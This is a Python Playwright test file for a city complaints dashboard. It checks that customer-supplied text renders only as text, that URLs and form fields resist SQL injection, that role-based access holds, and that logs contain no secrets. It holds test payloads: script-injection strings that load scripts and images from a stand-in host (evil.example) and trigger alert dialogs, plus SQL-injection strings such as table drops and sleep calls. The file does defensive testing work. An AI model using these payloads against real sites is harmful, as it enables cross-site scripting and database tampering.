"""Attacks in a real browser: what customers write, what somebody types or puts into an address, and who they pretend to be."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Dialog, Page, expect
from sqlalchemy import text

from core import cases, db, tokens
from core.people import SYSTEM
from dashboard import filters
from dashboard.rooms import ROOMS
from tests import builders, serving
from tests.browser.staff import opens, presses, reads, received, settled, state_of
from tests.builders import NADIA, SAM, ids_of

EVIL = "evil.example"
#: Each would ask another host, open a dialog or draw a link, where it is read as anything but text.
HOSTILE = (
    f"![pixel](https://{EVIL}/p.png) [link](https://{EVIL}/l) <https://{EVIL}/a> https://{EVIL}/bare www.{EVIL} "
    f"<img src=https://{EVIL}/i.png onerror=alert(1)><script src=https://{EVIL}/s.js></script><script>alert(2)</script> "
    f"<svg onload=alert(3)><iframe src=https://{EVIL}/f></iframe><a href='javascript:alert(4)'>x</a> <style>@import 'https://{EVIL}/c'</style> "
    f"</textarea></script>\"'><b onmouseover=alert(5)>b</b> :material/home: :red[x] $$\\href{{https://{EVIL}}}{{x}}$$ | a | b |"
)
SQL = (
    "' or '1'='1",
    "'; drop table cases; --",
    "\\'",
    "1); select pg_sleep(5); --",
    ":x %(x)s $1",
    "\x00",
    "9" * 400,
    "2026-99-99",
)


@dataclass
class Listener:
    """What a page must never do: ask another host, open a dialog or a window, or be stopped by the policy while it tries."""

    asked: list[str] = field(default_factory=list)
    opened: list[str] = field(default_factory=list)
    blocked: list[str] = field(default_factory=list)

    def listen(self, page: Page, home: str) -> "Listener":
        """From now on."""
        ours = (home, home.replace("http", "ws"), "data:", "blob:")
        page.on("request", lambda asked: None if asked.url.startswith(ours) else self.asked.append(asked.url))
        page.on("dialog", self._dismissed)
        page.on("popup", lambda popup: self.opened.append(popup.url))
        page.on(
            "console", lambda said: self.blocked.append(said.text) if "Content Security Policy" in said.text else None
        )
        return self

    def _dismissed(self, dialog: Dialog) -> None:
        self.opened.append(dialog.message)
        dialog.dismiss()

    def heard_nothing(self, page: Page) -> None:
        """And nothing of it stands in the page as anything but text."""
        assert not self.asked and not self.opened and not self.blocked
        drawn = page.locator(
            f'img[src*="{EVIL}"], a[href*="{EVIL}"], iframe, a[href^="javascript"], script[src*="{EVIL}"], [onerror], [onload]'
        )
        assert drawn.count() == 0, drawn.first.evaluate("each => each.outerHTML")


@pytest.fixture
def listener(page: Page, app_url: str) -> Iterator[Listener]:
    heard = Listener().listen(page, app_url)
    yield heard
    heard.heard_nothing(page)


def well(page: Page) -> None:
    """The page works, whatever was asked of it."""
    expect(page.get_by_text("Something went wrong")).to_have_count(0)
    expect(page.locator('[data-testid="stException"]')).to_have_count(0)


HOSTILE_FIELDS = dict.fromkeys(
    ("title", "description", "customer_name", "postal_address", "language", "accessible_format", "topic"), HOSTILE
)


def test_what_a_customer_writes_is_text_on_every_page_that_shows_it(
    page: Page, listener: Listener, app_url: str
) -> None:
    with db.begin() as conn:
        complaint = builders.with_steps(conn, **HOSTILE_FIELDS)
        builders.does(conn, complaint, "add_note", SAM, note=HOSTILE)
        builders.does(
            conn,
            complaint,
            "attach",
            SAM,
            file=(f"{HOSTILE[:120]}.txt", "text/html", b"<script>alert(6)</script>"),
            note=HOSTILE,
        )
        others = [builders.comment(conn, **HOSTILE_FIELDS), builders.compliment(conn, **HOSTILE_FIELDS)]
        escalation = builders.escalation(conn, builders.responded(conn, **HOSTILE_FIELDS))
        letter = builders.letter_drafted(conn, builders.told(conn, builders.responded(conn, **HOSTILE_FIELDS)))
    for case in (complaint, *others, escalation, letter):
        opens(page, f"/{case.kind}?no={case.request_no}", "Mina" if case.kind == "escalation" else "Sam")
        reads(page, f"{case.kind.capitalize()} {case.request_no}")
        well(page)
        assert "onerror=alert(1)" in page.get_by_test_id("stMain").inner_text(), "it is shown, as it was written"
        listener.heard_nothing(page)
    for name in ("Sam", "Mina", "Ada"):
        for room in ROOMS:
            opens(page, f"/{room.name}" if room is not ROOMS[0] else "/", name)
            well(page)
            listener.heard_nothing(page)


def test_what_the_form_sends_is_text_too_and_in_no_log(
    page: Page, shared_database: str, app: serving.App, app_url: str, listener: Listener
) -> None:
    with db.owner_engine().begin() as owner:
        token = tokens.issue(owner, "hostile-form")
    said = {
        "kind": "complaint",
        "category": "staff",
        "description": HOSTILE,
        "customer_name": HOSTILE[:300],
        "postal_address": HOSTILE[:900],
    }
    headers = {"Authorization": f"Bearer {token}", "Idempotency-Key": "hostile-1"}
    number = httpx.post(f"{app_url}/api/intake", json=said, headers=headers).json()["request_no"]
    opens(page, f"/complaint?no={number}")
    reads(page, f"Complaint {number}")
    assert "onerror=alert(1)" in page.get_by_test_id("stMain").inner_text()
    assert EVIL not in (log := Path(app.log).read_text()) and token not in log


@pytest.mark.parametrize("attack", SQL, ids=range(len(SQL)))
def test_sql_in_an_address_is_a_word_like_any_other(page: Page, listener: Listener, attack: str) -> None:
    said = quote(attack)
    everything = "&".join(f"{key}={said}" for key in filters.KEYS)
    others = (f"/complaint?no={said}&list={said}", f"/escalation?no={said}", f"/intake?escalate={said}&import={said}",
              f"/compliance?period={said}&compare={said}&by={said}", f"/learning?period={said}", f"/workload?team={said}", f"/people?find={said}",
              f"/outbox?show={said}", f"/recognition?month={said}", f"/calendar?days={said}", f"/mine?after={said}")  # fmt: skip
    for path in (
        f"/queue?{everything}",
        *(others if attack in SQL[:3] else ()),
    ):  # the queue reads most; three of them everywhere
        opens(page, path, "Mina")
        well(page)
    page.goto(f"/queue?as={said}")
    settled(page)
    well(page)


@pytest.mark.parametrize("attack", SQL[:5], ids=range(5))
def test_sql_in_a_text_field_is_a_word_like_any_other(page: Page, listener: Listener, attack: str) -> None:
    number = received()
    for path, name in (("/queue", "Sam"), ("/people", "Sam"), ("/complaint", "Sam"), ("/intake", "Cleo"), (f"/intake?escalate={number}", "Cleo"),
                       ("/outbox", "Ada")):  # fmt: skip
        opens(page, path, name)
        for box in page.get_by_role("textbox").all()[:6]:
            if box.is_visible() and box.is_editable():
                box.fill(attack.replace("\x00", ""))
                box.press("Tab")
                settled(page)
                well(page)
    assert state_of(number) == "received"


def test_another_persons_case_is_not_there_whatever_the_address_says(page: Page, listener: Listener) -> None:
    with db.begin() as conn:
        case = builders.with_finding(
            conn, SAM, subject_ids=ids_of(conn, NADIA), description="The quokka at the desk was rude."
        )
        file = builders.does(conn, case, "attach", SAM, file=("quokka.txt", "text/plain", b"quokka"), note="quokka")
    number = case.request_no
    spellings = (
        number,
        number.lstrip("0"),
        f" {number} ",
        f"%23{number}",
        f"{number[:4]}-{number[4:]}",
        str(case.id),
        str(file.id),
    )
    for name in ("Nadia", "Vic", "Priya"):
        for kind in ("complaint", "escalation", "comment", "compliment"):
            opens(page, f"/{kind}?no={number}", name)
            expect(page.get_by_text("quokka")).to_have_count(0)
        for said in spellings:
            opens(page, f"/complaint?no={said}", name)
            expect(page.get_by_text("quokka")).to_have_count(0)
        for address in (f"/queue?words={number}", "/queue?words=quokka", f"/intake?escalate={number}"):
            opens(page, address, name)
            expect(page.get_by_test_id("stMain").get_by_text("quokka at the desk")).to_have_count(0)


def test_two_tabs_as_two_people_are_two_people(page: Page, listener: Listener) -> None:
    """In the demo one browser may be several people at once; each tab has its own rights."""
    number, other = received(), page.context.new_page()
    opens(page, f"/complaint?no={number}", "Sam")
    opens(other, f"/complaint?no={number}", "Vic")
    reads(other, "This page is not for your role.")
    expect(other.get_by_text("I waited forty minutes")).to_have_count(0)
    presses(page, "Take")
    with db.begin() as conn:
        taken = cases.find(conn, number, SYSTEM)
        assert (taken.state, taken.owner) == ("under_review", "Sam Whitfield")
    other.reload()
    settled(other)
    reads(other, "This page is not for your role.")


def test_an_address_cannot_make_somebody_else_of_a_tab_that_acts(page: Page) -> None:
    """A person who became a viewer keeps no right of the page that is open."""
    number = received()
    opens(page, f"/complaint?no={number}", "Jonas")
    with db.owner_engine().begin() as owner:
        owner.execute(text("update staff set role = 'viewer' where name like 'Jonas %'"))
    try:
        presses(page, "Take")
        assert state_of(number) == "received"
        reads(page, "This page is not for your role.")
    finally:
        with db.owner_engine().begin() as owner:
            owner.execute(text("update staff set role = 'supervisor' where name like 'Jonas %'"))


def test_no_secret_and_no_customer_is_in_the_log(shared_database: str, page: Page, app: serving.App) -> None:
    """With every secret set, and an error of ours on the way: the log has neither."""
    port = serving.free_port()
    secrets: dict[str, Any] = {"SMTP_URL": "smtp://clerk:canary-smtp@127.0.0.1:1?from=311@city.example", "SMS_URL": "json://canary-sms@127.0.0.1:1/?to={to}",
               "OIDC_METADATA_URL": "http://localhost:1/x", "OIDC_CLIENT_ID": "x", "OIDC_CLIENT_SECRET": "canary-client-secret",
               "COOKIE_SECRET": "canary-cookie-0123456789-abcdefghij", "PUBLIC_URL": f"http://localhost:{port}"}  # fmt: skip
    with db.owner_engine().begin() as owner:
        token = tokens.issue(owner, "log-form")
    with serving.streamlit(app.database, port=port, WORKER="on", **secrets) as guarded:
        said = {"kind": "complaint", "category": "staff", "description": "canary-words", "email": "canary@example.org"}
        for key in ("log-key-1", "x"):
            httpx.post(
                f"{guarded.url}/api/intake",
                json=said,
                headers={"Authorization": f"Bearer {token}", "Idempotency-Key": key},
            )
        httpx.get(f"{guarded.url}/oauth2callback?state=x&code=canary-code")
        httpx.get(f"{guarded.url}/auth/login?provider=canary-token")
        page.goto(secrets["PUBLIC_URL"])
        page.wait_for_timeout(3_000)
        log = Path(guarded.log).read_text()
    assert not re.findall(r"canary\S*", log) and token not in log
